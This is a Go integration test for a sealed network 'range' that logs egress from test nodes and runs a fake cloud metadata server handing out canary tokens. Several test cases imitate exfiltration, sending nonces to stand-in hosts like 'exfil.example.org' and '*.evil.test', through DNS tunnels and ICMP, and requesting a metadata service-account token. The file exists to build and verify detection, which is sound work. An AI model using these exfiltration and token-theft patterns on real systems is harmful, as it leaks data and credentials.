// SPDX-License-Identifier: Apache-2.0

//go:build cluster && linux

package rangehost

import (
	"bufio"
	"context"
	"crypto/tls"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/netip"
	"os"
	"os/signal"
	"path/filepath"
	"runtime"
	"strings"
	"syscall"
	"testing"
	"time"

	"github.com/google/nftables"
	"github.com/miekg/dns"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"github.com/vishvananda/netlink"
	"github.com/vishvananda/netns"
	"golang.org/x/sys/unix"

	"github.com/stockade-dev/stockade/workloads/range/rangeclient"
	"github.com/stockade-dev/stockade/workloads/range/world"
)

// asRange makes this test binary the range itself: the process has to be in
// the namespace as a whole, and has to be one that can be killed.
const asRange = "STOCKADE_TEST_RANGE"

func TestMain(m *testing.M) {
	if conf := os.Getenv(asRange); conf != "" {
		os.Exit(rangeProcess(conf))
	}
	if os.Geteuid() != 0 {
		fmt.Fprintln(os.Stderr, "the cluster tests of the range make network namespaces: run them as root")
		os.Exit(1)
	}
	os.Exit(m.Run())
}

func rangeProcess(text string) int {
	ctx, stop := signal.NotifyContext(context.Background(), syscall.SIGTERM)
	defer stop()
	var conf Config
	err := json.Unmarshal([]byte(text), &conf)
	if err == nil {
		err = Serve(ctx, conf, func(r Ready) { _ = json.NewEncoder(os.Stdout).Encode(r) })
	}
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		return 1
	}
	return 0
}

// site is a range's namespace with a bridge, and two nodes behind it.
type site struct {
	t             *testing.T
	rng           *space
	node, peer    *space
	conf          Config
	nodeIP, peer4 string
}

// space is a network namespace with a thread that stays in it.
type space struct {
	path string
	work chan func()
}

func newSpace(t *testing.T, name string) *space {
	t.Helper()
	s := &space{path: filepath.Join(t.TempDir(), name), work: make(chan func())}
	require.NoError(t, os.WriteFile(s.path, nil, 0o600))
	ready := make(chan error)
	go func() {
		runtime.LockOSThread() // never unlocked: the thread ends with us
		err := unix.Unshare(unix.CLONE_NEWNET)
		if err == nil {
			err = unix.Mount("/proc/thread-self/ns/net", s.path, "", unix.MS_BIND, "")
		}
		ready <- err
		for f := range s.work {
			f()
		}
	}()
	require.NoError(t, <-ready, "making a network namespace (this needs root)")
	t.Cleanup(func() {
		close(s.work)
		assert.NoError(t, unix.Unmount(s.path, unix.MNT_DETACH))
	})
	return s
}

// do runs f in the namespace. f must not fail the test at once: it is not on
// the test's goroutine.
func (s *space) do(f func()) {
	done := make(chan struct{})
	s.work <- func() { defer close(done); f() }
	<-done
}

func (s *space) must(t *testing.T, what string, f func() error) {
	t.Helper()
	var err error
	s.do(func() { err = f() })
	require.NoError(t, err, what)
}

const testBridge = "br-range"

func newSite(t *testing.T) *site {
	t.Helper()
	dir := t.TempDir()
	s := &site{
		t: t, rng: newSpace(t, "range"), node: newSpace(t, "node"), peer: newSpace(t, "peer"),
		nodeIP: "172.30.0.2", peer4: "172.30.0.3",
		conf: Config{
			Bridges: []string{testBridge}, Socket: filepath.Join(dir, "r.sock"), Log: filepath.Join(dir, "range.ndjson"),
			PIDFile: filepath.Join(dir, "range.pid"),
		},
	}
	s.rng.must(t, "making the bridge", func() error {
		br := &netlink.Bridge{LinkAttrs: netlink.LinkAttrs{Name: testBridge}}
		return errors.Join(netlink.LinkAdd(br), up("lo"), addr(testBridge, "172.30.0.1/24"), addr(testBridge, "fd00:30::1/64"), up(testBridge))
	})
	s.conf.NetNS = s.rng.path
	s.plug(s.node, "node", s.nodeIP, "fd00:30::2")
	s.plug(s.peer, "peer", s.peer4, "fd00:30::3")
	return s
}

// plug connects a node to the bridge, with the bridge as its way out.
func (s *site) plug(n *space, name, v4, v6 string) {
	s.t.Helper()
	fd, err := os.Open(n.path)
	require.NoError(s.t, err)
	defer fd.Close()
	s.rng.must(s.t, "plugging in "+name, func() error {
		veth := &netlink.Veth{LinkAttrs: netlink.LinkAttrs{Name: "v-" + name}, PeerName: "eth0", PeerNamespace: netlink.NsFd(int(fd.Fd()))}
		if err := netlink.LinkAdd(veth); err != nil {
			return err
		}
		br, err := netlink.LinkByName(testBridge)
		if err != nil {
			return err
		}
		return errors.Join(netlink.LinkSetMaster(veth, br), up("v-"+name))
	})
	n.must(s.t, "configuring "+name, func() error {
		_, all4, _ := net.ParseCIDR("0.0.0.0/0")
		_, all6, _ := net.ParseCIDR("::/0")
		return errors.Join(up("lo"), up("eth0"), addr("eth0", v4+"/24"), addr("eth0", v6+"/64"),
			netlink.RouteAdd(&netlink.Route{Dst: all4, Gw: net.ParseIP("172.30.0.1")}),
			netlink.RouteAdd(&netlink.Route{Dst: all6, Gw: net.ParseIP("fd00:30::1")}))
	})
}

func up(name string) error {
	l, err := netlink.LinkByName(name)
	if err != nil {
		return err
	}
	return netlink.LinkSetUp(l)
}

func addr(name, cidr string) error {
	l, err := netlink.LinkByName(name)
	if err != nil {
		return err
	}
	a, err := netlink.ParseAddr(cidr)
	if err != nil {
		return err
	}
	a.Flags = unix.IFA_F_NODAD
	return netlink.AddrAdd(l, a)
}

func (s *site) spawn() (Ready, error) {
	conf, err := json.Marshal(s.conf)
	require.NoError(s.t, err)
	exe, err := os.Executable()
	require.NoError(s.t, err)
	ctx, cancel := context.WithTimeout(s.t.Context(), 10*time.Second)
	defer cancel()
	return Spawn(ctx, SpawnConfig{
		NetNS: s.rng.path, Argv: []string{exe}, Env: append(os.Environ(), asRange+"="+string(conf)),
		Stderr: s.conf.Log + ".stderr",
	})
}

// start proves that there is no way out and then starts the range.
func (s *site) start() (Ready, *rangeclient.Client) {
	s.t.Helper()
	s.proveSealed()
	r, err := s.spawn()
	require.NoError(s.t, err)
	s.t.Cleanup(func() { s.terminate() })
	c := rangeclient.New(s.conf.Socket)
	s.t.Cleanup(c.Close)
	return r, c
}

func (s *site) terminate() {
	ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
	defer cancel()
	assert.NoError(s.t, Terminate(ctx, s.conf.PIDFile))
}

// proveSealed goes before every attack: no interface leads out of the range's
// namespace, no route does, and a connect says so.
func (s *site) proveSealed() {
	s.t.Helper()
	host, err := netns.Get()
	require.NoError(s.t, err)
	defer host.Close()
	s.rng.must(s.t, "proving the seal", func() error {
		own, err := netns.Get()
		if err != nil {
			return err
		}
		defer own.Close()
		if own.Equal(host) {
			return errors.New("this is the host's namespace")
		}
		links, err := netlink.LinkList()
		if err != nil {
			return err
		}
		for _, l := range links {
			if a := l.Attrs(); a.Flags&net.FlagUp != 0 && a.Name != "lo" && a.Name != testBridge && !strings.HasPrefix(a.Name, "v-") {
				return fmt.Errorf("interface %s is up", a.Name)
			}
		}
		for _, to := range []string{"203.0.113.7:80", "[2001:db8::7]:80"} {
			d := net.Dialer{Timeout: time.Second}
			if c, err := d.Dial("tcp", to); err == nil {
				return errors.Join(fmt.Errorf("%s is reachable", to), c.Close())
			} else if !errors.Is(err, unix.ENETUNREACH) && !errors.Is(err, unix.EADDRNOTAVAIL) {
				return fmt.Errorf("connecting to %s: %w", to, err)
			}
		}
		return CheckSealed(s.rng.path)
	})
}

func newNonce() string { return randomHex(16) }

// exchange dials, says text and returns the first line of the answer.
func exchange(network, to, text string) (string, error) {
	d := net.Dialer{Timeout: 3 * time.Second}
	c, err := d.Dial(network, to)
	if err != nil {
		return "", err
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(3 * time.Second))
	if _, err := io.WriteString(c, text); err != nil {
		return "", err
	}
	return bufio.NewReader(c).ReadString('\n')
}

// get asks over HTTP, from whatever namespace the thread is in.
func get(scheme, to, host, path string, header http.Header) (status int, body string, err error) {
	d := net.Dialer{Timeout: 3 * time.Second}
	c, err := d.Dial("tcp", to)
	if err != nil {
		return 0, "", err
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(3 * time.Second))
	if scheme == "https" {
		c = tls.Client(c, &tls.Config{ServerName: host, InsecureSkipVerify: true})
	}
	req, err := http.NewRequest(http.MethodGet, scheme+"://"+host+path, nil)
	if err != nil {
		return 0, "", err
	}
	req.Header = header
	if err := req.Write(c); err != nil {
		return 0, "", err
	}
	resp, err := http.ReadResponse(bufio.NewReader(c), req)
	if err != nil {
		return 0, "", err
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	return resp.StatusCode, string(b), err
}

// ping sends one echo request and waits for its reply.
func ping(to netip.Addr, payload string) error {
	network, kind, want := "ip4:icmp", byte(8), byte(0)
	if to.Is6() {
		network, kind, want = "ip6:ipv6-icmp", 128, 129
	}
	c, err := net.DialIP(network, nil, &net.IPAddr{IP: to.AsSlice()})
	if err != nil {
		return err
	}
	defer c.Close()
	msg := append([]byte{kind, 0, 0, 0, 0x53, 0x4b, 0, 1}, payload...)
	if to.Is4() {
		sum := checksum(msg)
		msg[2], msg[3] = byte(sum>>8), byte(sum)
	}
	if _, err := c.Write(msg); err != nil {
		return err
	}
	_ = c.SetReadDeadline(time.Now().Add(2 * time.Second))
	buf := make([]byte, 1500)
	for {
		n, _, err := c.ReadFromIP(buf) // without the IPv4 header
		if err != nil {
			return err
		}
		if n >= 8 && buf[0] == want && string(buf[8:n]) == payload {
			return nil
		}
	}
}

func query(network, server, name string, kind uint16) (*dns.Msg, error) {
	d := net.Dialer{Timeout: 3 * time.Second}
	c, err := d.Dial(network, server)
	if err != nil {
		return nil, err
	}
	defer c.Close()
	_ = c.SetDeadline(time.Now().Add(3 * time.Second))
	m := new(dns.Msg)
	m.SetQuestion(dns.Fqdn(name), kind)
	conn := &dns.Conn{Conn: c}
	if err := conn.WriteMsg(m); err != nil {
		return nil, err
	}
	return conn.ReadMsg()
}

func TestEgressReachesTheRangeAndIsWrittenDown(t *testing.T) {
	s := newSite(t)
	ready, client := s.start()
	require.True(t, ready.IPv6, "this kernel must have IPv6")

	marked := func(answer, nonce string, err error) error {
		if err == nil && answer != world.Marker+" "+nonce+"\n" {
			return fmt.Errorf("the answer is %q", answer)
		}
		return err
	}
	type want struct{ proto, service, dst, host, sni string }
	cases := []struct {
		name string
		do   func(nonce string) error
		want want
	}{
		{"raw TCP to a public address", func(n string) error {
			a, err := exchange("tcp", world.PublicTCP, n+"\n")
			return marked(a, n, err)
		}, want{proto: "tcp", service: "stream", dst: world.PublicTCP}},
		{"raw TCP to a private address", func(n string) error {
			a, err := exchange("tcp", world.RFC1918()[1], n+"\n")
			return marked(a, n, err)
		}, want{proto: "tcp", service: "stream", dst: world.RFC1918()[1]}},
		{"HTTP to a public address", func(n string) error {
			_, a, err := get("http", world.PublicTCP, "example.org", "/"+n, nil)
			return marked(a, n, err)
		}, want{proto: "tcp", service: "http", dst: world.PublicTCP, host: "example.org"}},
		{"TLS to a public address", func(n string) error {
			_, a, err := get("https", world.PublicTLS, "exfil.example.org", "/?d="+n, nil)
			return marked(a, n, err)
		}, want{proto: "tcp", service: "http", dst: world.PublicTLS, host: "exfil.example.org", sni: "exfil.example.org"}},
		{"a nonce in the SNI alone", func(n string) error {
			_, _, err := get("https", world.PublicTLS, n[:16]+"."+n[16:]+".evil.test", "/", nil)
			return err
		}, want{proto: "tcp", service: "tls", dst: world.PublicTLS}},
		{"TLS over IPv6", func(n string) error {
			_, a, err := get("https", world.PublicTCP6, "six.example.org", "/"+n, nil)
			return marked(a, n, err)
		}, want{proto: "tcp", service: "http", dst: world.PublicTCP6, sni: "six.example.org"}},
		{"raw TCP over IPv6", func(n string) error {
			a, err := exchange("tcp", "[2001:db8::beef]:9999", n+"\n")
			return marked(a, n, err)
		}, want{proto: "tcp", service: "stream", dst: "[2001:db8::beef]:9999"}},
		{"UDP to a public address", func(n string) error {
			a, err := exchange("udp", world.PublicUDP, n)
			return marked(a, n, err)
		}, want{proto: "udp", service: "udp", dst: world.PublicUDP}},
		{"UDP to a private address", func(n string) error {
			a, err := exchange("udp", world.RFC1918()[0], n)
			return marked(a, n, err)
		}, want{proto: "udp", service: "udp", dst: world.RFC1918()[0]}},
		{"UDP over IPv6", func(n string) error {
			a, err := exchange("udp", "[2001:db8::9]:4500", n)
			return marked(a, n, err)
		}, want{proto: "udp", service: "udp", dst: "[2001:db8::9]:4500"}},
		{"a DNS tunnel with one label", func(n string) error {
			_, err := query("udp", world.PublicDNS, n+"."+world.TunnelZone, dns.TypeTXT)
			return err
		}, want{proto: "udp", service: "dns", dst: world.PublicDNS}},
		{"a DNS tunnel with several labels, over TCP", func(n string) error {
			_, err := query("tcp", "1.1.1.1:53", n[:8]+"."+n[8:20]+"."+n[20:]+"."+world.TunnelZone, dns.TypeA)
			return err
		}, want{proto: "tcp", service: "dns", dst: "1.1.1.1:53"}},
		{"a DNS tunnel over IPv6", func(n string) error {
			_, err := query("udp", "[2001:4860:4860::8888]:53", n+"."+world.TunnelZone, dns.TypeAAAA)
			return err
		}, want{proto: "udp", service: "dns", dst: "[2001:4860:4860::8888]:53"}},
		{"ICMP echo", func(n string) error {
			return ping(netip.MustParseAddr(world.PublicICMP), n)
		}, want{proto: "icmp", service: "icmp", dst: world.PublicICMP}},
		{"ICMP echo over IPv6", func(n string) error {
			return ping(netip.MustParseAddr("2001:db8::7"), n)
		}, want{proto: "icmp6", service: "icmp", dst: "2001:db8::7"}},
		{"another IP protocol", func(n string) error {
			c, err := net.DialIP("ip4:253", nil, &net.IPAddr{IP: net.ParseIP("203.0.113.7")})
			if err != nil {
				return err
			}
			defer c.Close()
			_, err = io.WriteString(c, n)
			return err
		}, want{proto: "ip/253", service: "ip", dst: "203.0.113.7"}},
	}
	for _, tc := range cases {
		t.Run(tc.name, func(t *testing.T) {
			n := newNonce()
			mark, err := client.Mark(t.Context())
			require.NoError(t, err)
			s.node.must(t, tc.name, func() error { return tc.do(n) })
			ctx, cancel := context.WithTimeout(t.Context(), 2*time.Second)
			defer cancel()
			_, err = client.Await(ctx, mark, n)
			require.NoError(t, err)
			events, err := client.Since(ctx, mark, n)
			require.NoError(t, err, "the log must say that it is complete")
			found := false
			for _, e := range events {
				found = found || (e.Proto == tc.want.proto && e.Service == tc.want.service && e.Dst == tc.want.dst &&
					(tc.want.host == "" || e.Host == tc.want.host) && (tc.want.sni == "" || e.SNI == tc.want.sni))
				if ap, err := netip.ParseAddrPort(e.Src); err == nil {
					assert.Contains(t, []string{s.nodeIP, "fd00:30::2"}, ap.Addr().String())
				}
			}
			assert.True(t, found, "no event is like %+v: %+v", tc.want, events)
		})
	}

	t.Run("a nonce that was never sent is absent, and the log says that it is complete", func(t *testing.T) {
		mark, err := client.Mark(t.Context())
		require.NoError(t, err)
		s.node.must(t, "sending another nonce", func() error {
			_, err := exchange("tcp", world.PublicTCP, newNonce()+"\n")
			return err
		})
		events, err := client.Since(t.Context(), mark, newNonce())
		require.NoError(t, err)
		assert.Empty(t, events)
	})

	t.Run("a connect without a word is seen as a SYN", func(t *testing.T) {
		mark, err := client.Mark(t.Context())
		require.NoError(t, err)
		s.node.must(t, "connecting", func() error {
			c, err := net.DialTimeout("tcp", "192.0.2.44:2222", 2*time.Second)
			if err != nil {
				return err
			}
			return c.Close()
		})
		require.Eventually(t, func() bool {
			events, err := client.Since(t.Context(), mark, "")
			for _, e := range events {
				if err == nil && e.Service == "syn" && e.Dst == "192.0.2.44:2222" {
					return true
				}
			}
			return false
		}, 2*time.Second, 20*time.Millisecond)
	})

	t.Run("a source without a way back is seen all the same", func(t *testing.T) {
		n := newNonce()
		mark, err := client.Mark(t.Context())
		require.NoError(t, err)
		s.node.must(t, "sending from a Pod address", func() error {
			if err := addr("lo", "10.244.7.7/32"); err != nil {
				return err
			}
			d := net.Dialer{LocalAddr: &net.UDPAddr{IP: net.ParseIP("10.244.7.7")}}
			c, err := d.Dial("udp", world.PublicUDP)
			if err != nil {
				return err
			}
			defer c.Close()
			_, err = io.WriteString(c, n)
			return err
		})
		ctx, cancel := context.WithTimeout(t.Context(), 2*time.Second)
		defer cancel()
		events, err := client.Await(ctx, mark, n)
		require.NoError(t, err)
		assert.Contains(t, events[0].Src, "10.244.7.7:")
	})
}

func TestMetadataServerAnswersAtEveryDoor(t *testing.T) {
	s := newSite(t)
	_, client := s.start()
	for _, door := range append(world.MetadataAlso(), world.Metadata) {
		t.Run(door, func(t *testing.T) {
			mark, err := client.Mark(t.Context())
			require.NoError(t, err)
			path := "/computeMetadata/v1/instance/service-accounts/default/token"
			var with, without int
			var token, n string
			n = newNonce()
			s.node.must(t, "asking for a token", func() error {
				var err error
				without, _, err = get("http", door, "metadata.google.internal", path+"?n="+n, nil)
				if err == nil {
					with, token, err = get("http", door, "metadata.google.internal", path+"?n="+n, http.Header{"Metadata-Flavor": {"Google"}})
				}
				return err
			})
			assert.Equal(t, http.StatusForbidden, without)
			require.Equal(t, http.StatusOK, with)
			var got struct {
				AccessToken string `json:"access_token"`
			}
			require.NoError(t, json.Unmarshal([]byte(token), &got))
			assert.True(t, strings.HasPrefix(got.AccessToken, world.CanaryPrefix))
			events, err := client.Since(t.Context(), mark, n)
			require.NoError(t, err)
			var statuses []int
			var handedOut []string
			for _, e := range events {
				if e.Service == "metadata" {
					statuses = append(statuses, e.Status)
					handedOut = append(handedOut, e.Canaries...)
				}
			}
			assert.Equal(t, []int{403, 200}, statuses)
			assert.Equal(t, []string{got.AccessToken}, handedOut)
		})
	}
}

func TestARangeThatIsToldToStopHasNothingToComplainAbout(t *testing.T) {
	s := newSite(t)
	s.start()
	s.terminate()
	b, err := os.ReadFile(s.conf.Log + ".stderr")
	require.NoError(t, err)
	assert.Empty(t, string(b))
	b, err = os.ReadFile(s.conf.Log)
	require.NoError(t, err)
	assert.Contains(t, string(b), `"name":"stopped"`)
}

func TestTrafficThatIsNotEgressIsLeftAlone(t *testing.T) {
	s := newSite(t)
	_, client := s.start()
	serve := func(sp *space, at string) {
		var l net.Listener
		sp.must(t, "listening on "+at, func() (err error) { l, err = net.Listen("tcp", at); return err })
		t.Cleanup(func() { _ = l.Close() })
		go func() {
			for {
				c, err := l.Accept()
				if err != nil {
					return
				}
				_, _ = io.WriteString(c, "the real one\n")
				_ = c.Close()
			}
		}()
	}
	// A Pod's address behind the peer, as in a cluster with direct routes.
	s.peer.must(t, "giving the peer a Pod", func() error { return addr("lo", "10.244.9.9/32") })
	s.node.must(t, "routing to the Pod", func() error {
		_, pod, _ := net.ParseCIDR("10.244.9.9/32")
		return netlink.RouteAdd(&netlink.Route{Dst: pod, Gw: net.ParseIP(s.peer4)})
	})
	serve(s.rng, "172.30.0.1:6443")
	serve(s.peer, "0.0.0.0:10250")
	for _, to := range []string{"172.30.0.1:6443", "172.30.0.3:10250", "10.244.9.9:10250"} {
		mark, err := client.Mark(t.Context())
		require.NoError(t, err)
		n := newNonce()
		var answer string
		s.node.must(t, "connecting to "+to, func() (err error) { answer, err = exchange("tcp", to, n+"\n"); return err })
		assert.Equal(t, "the real one\n", answer, to)
		events, err := client.Since(t.Context(), mark, "")
		require.NoError(t, err)
		assert.Empty(t, events, to)
	}
	var answer string
	s.rng.must(t, "connecting from the engine to a node", func() (err error) {
		answer, err = exchange("tcp", "172.30.0.3:10250", "x\n")
		return err
	})
	assert.Equal(t, "the real one\n", answer)
}

func TestWithoutTheRuleNothingArrivesAndTheClientDoesNotCallItHeld(t *testing.T) {
	s := newSite(t)
	_, client := s.start()
	mark, err := client.Mark(t.Context())
	require.NoError(t, err)
	s.rng.must(t, "removing the rules", func() error {
		return errors.Join(netlink.RuleDel(newRule(netlink.FAMILY_V4, testBridge)), netlink.RuleDel(newRule(netlink.FAMILY_V6, testBridge)))
	})
	n := newNonce()
	var aerr error
	s.node.do(func() { _, aerr = exchange("tcp", world.PublicTCP, n+"\n") })
	require.Error(t, aerr)
	events, err := client.Events(t.Context(), n)
	require.NoError(t, err)
	assert.Empty(t, events)
	require.Eventually(t, func() bool {
		events, err = client.Since(t.Context(), mark, n)
		return errors.Is(err, rangeclient.ErrIncomplete)
	}, 2*time.Second, 50*time.Millisecond, "a deaf range must say so")
	assert.Empty(t, events)
	assert.ErrorContains(t, err, "restart the range")
}

func TestARangeThatBrNetfilterDeafensSaysSo(t *testing.T) {
	s := newSite(t)
	_, client := s.start()
	const knob = "/proc/sys/net/bridge/bridge-nf-call-iptables"
	s.rng.must(t, "turning br_netfilter on", func() error { return os.WriteFile(knob, []byte("1"), 0) })
	require.Eventually(t, func() bool {
		_, err := client.Mark(t.Context())
		return errors.Is(err, rangeclient.ErrIncomplete)
	}, 2*time.Second, 50*time.Millisecond)
}

func (s *site) kernelState() (rules, routes, tables int, rp string) {
	s.t.Helper()
	s.rng.must(s.t, "reading the kernel's state", func() error {
		for _, f := range []int{netlink.FAMILY_V4, netlink.FAMILY_V6} {
			r, err := ourRules(f)
			if err != nil {
				return err
			}
			rules += len(r)
			rt, err := netlink.RouteListFiltered(f, &netlink.Route{Table: routeTable}, netlink.RT_FILTER_TABLE)
			if err != nil {
				return err
			}
			routes += len(rt)
		}
		conn, err := nftables.New()
		if err != nil {
			return err
		}
		all, err := conn.ListTables()
		if err != nil {
			return err
		}
		for _, t := range all {
			if t.Name == nftTable {
				tables++
			}
		}
		b, err := os.ReadFile("/proc/sys/net/ipv4/conf/" + testBridge + "/rp_filter")
		rp = strings.TrimSpace(string(b))
		return err
	})
	return rules, routes, tables, rp
}

func TestAKilledRangeIsTakenOverAndEverythingIsUndone(t *testing.T) {
	s := newSite(t)
	s.rng.must(t, "setting rp_filter", func() error {
		return os.WriteFile("/proc/sys/net/ipv4/conf/"+testBridge+"/rp_filter", []byte("2"), 0)
	})
	first, client := s.start()
	rules, routes, tables, rp := s.kernelState()
	assert.Equal(t, []any{2, 4, 1, "0"}, []any{rules, routes, tables, rp})

	_, err := s.spawn()
	require.ErrorContains(t, err, "another range runs", "two ranges must not share a namespace")

	mark, err := client.Mark(t.Context())
	require.NoError(t, err)
	p, err := os.FindProcess(first.PID)
	require.NoError(t, err)
	require.NoError(t, p.Kill())
	require.Eventually(t, func() bool { _, err := client.Health(t.Context()); return err != nil }, 2*time.Second, 10*time.Millisecond)

	second, err := s.spawn()
	require.NoError(t, err)
	assert.NotEqual(t, first.Run, second.Run)
	rules, routes, tables, _ = s.kernelState()
	assert.Equal(t, []int{2, 4, 1}, []int{rules, routes, tables}, "nothing is added twice")
	n := newNonce()
	s.node.must(t, "connecting again", func() error { _, err := exchange("tcp", world.PublicTCP, n+"\n"); return err })
	events, err := client.Since(t.Context(), mark, n)
	require.ErrorIs(t, err, rangeclient.ErrIncomplete, "the gap must show")
	assert.NotEmpty(t, events)
	assert.Greater(t, events[0].Seq, mark.Seq)

	s.terminate()
	rules, routes, tables, rp = s.kernelState()
	assert.Equal(t, []any{0, 0, 0, "2"}, []any{rules, routes, tables, rp}, "nothing stays, and the sysctl is what it was before the first run")
	for _, f := range []string{s.conf.Socket, s.conf.PIDFile, s.conf.PIDFile + ".sysctl"} {
		_, err := os.Stat(f)
		assert.ErrorIs(t, err, os.ErrNotExist)
	}
	s.terminate() // once more is no error
}

func TestARangeRefusesANamespaceThatIsNotSealed(t *testing.T) {
	require.ErrorIs(t, CheckSealed(""), ErrUnsealed, "the tests themselves run in the host's namespace")
	s := newSite(t)
	_, all, _ := net.ParseCIDR("0.0.0.0/0")
	way := &netlink.Route{Dst: all, Gw: net.ParseIP(s.nodeIP)}
	s.rng.must(t, "adding a default route", func() error { return netlink.RouteAdd(way) })
	_, err := s.spawn()
	require.ErrorContains(t, err, "default route")
	s.rng.must(t, "removing it", func() error { return netlink.RouteDel(way) })
	s.conf.NetNS = s.node.path
	_, err = s.spawn()
	require.ErrorContains(t, err, "it is not "+s.node.path)
	s.conf.NetNS, s.conf.Bridges = s.rng.path, []string{"nosuch"}
	_, err = s.spawn()
	require.ErrorContains(t, err, "create the node network first")
}

func TestARangeStopsWhenTheSealBreaks(t *testing.T) {
	s := newSite(t)
	_, client := s.start()
	_, all, _ := net.ParseCIDR("0.0.0.0/0")
	s.rng.must(t, "breaking the seal", func() error {
		return netlink.RouteAdd(&netlink.Route{Dst: all, Gw: net.ParseIP(s.nodeIP)})
	})
	require.Eventually(t, func() bool { _, err := client.Health(t.Context()); return err != nil }, 6*time.Second, 50*time.Millisecond)
	b, err := os.ReadFile(s.conf.Log)
	require.NoError(t, err)
	assert.Contains(t, string(b), `"name":"unsealed"`)
	require.Eventually(t, func() bool {
		b, err = os.ReadFile(s.conf.Log + ".stderr")
		return err == nil && strings.Contains(string(b), ErrUnsealed.Error())
	}, 2*time.Second, 20*time.Millisecond, "the process must end with the reason")
}

func TestOverloadIsCountedAndTheRangeStaysUp(t *testing.T) {
	s := newSite(t)
	s.conf.MaxConns = 50
	_, client := s.start()
	s.node.must(t, "opening many silent connections", func() error {
		var open []net.Conn
		defer func() {
			for _, c := range open {
				_ = c.Close()
			}
		}()
		for range 200 {
			c, err := net.DialTimeout("tcp", "203.0.113.7:7", 2*time.Second)
			if err != nil {
				return err
			}
			open = append(open, c)
		}
		return nil
	})
	n := newNonce()
	var answer string
	s.node.must(t, "being heard", func() (err error) { answer, err = exchange("tcp", world.PublicTCP, n+"\n"); return err })
	assert.Equal(t, marker(n), answer)
	h, err := client.Health(t.Context())
	require.NoError(t, err)
	assert.True(t, h.OK)
	assert.Positive(t, h.Lost, "what was closed young must be counted")
}
